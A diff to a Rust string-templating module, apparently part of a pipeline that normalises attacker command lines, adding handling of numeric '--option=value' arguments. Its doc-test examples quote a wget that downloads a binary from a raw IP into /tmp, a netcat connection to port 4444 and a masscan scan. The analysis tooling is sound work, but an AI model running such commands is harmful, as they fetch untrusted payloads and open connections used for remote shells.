@@ -16,6 +16,7 @@ pub const MAX_LINE: usize = 4096;
 /// # use ringleader_pipeline::extract::template::template;
 /// assert_eq!(template("wget  -O /tmp/pty1 http://159.89.156.190/.y/pty1"), "wget -O /tmp/pty1 <url>");
 /// assert_eq!(template("nc 192.0.2.7 4444"), "nc <ip> 4444");
+/// assert_eq!(template("masscan --rate=20000 -p80"), "masscan --rate=<num> -p80");
 /// ```
 pub fn template(text: &str) -> String {
     let end = text.floor_char_boundary(MAX_LINE);
@@ -46,6 +47,9 @@ fn type_word(word: &str, before: &str, is_program: bool, out: &mut String) {
         runs(core, Place { program: true, ..Place::default() }, out);
     } else if let Some(kind) = whole(core, before) {
         out.push_str(kind);
+    } else if let Some(option) = numbered(core) {
+        out.push_str(option);
+        out.push_str("=<num>");
     } else {
         runs(
             core,
@@ -54,6 +58,13 @@ fn type_word(word: &str, before: &str, is_program: bool, out: &mut String) {
         );
     }
     out.push_str(tail);
+}
+
+/// The option of `--rate=12000`: its number differs from run to run, as that of `--rate 12000`.
+fn numbered(word: &str) -> Option<&str> {
+    let (option, number) = word.split_once('=').filter(|it| it.0.starts_with('-'))?;
+    let plain = option.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'));
+    (plain && number.len() >= 2 && number.bytes().all(|b| b.is_ascii_digit())).then_some(option)
 }
 
 /// Splits quotes and separators off both ends.
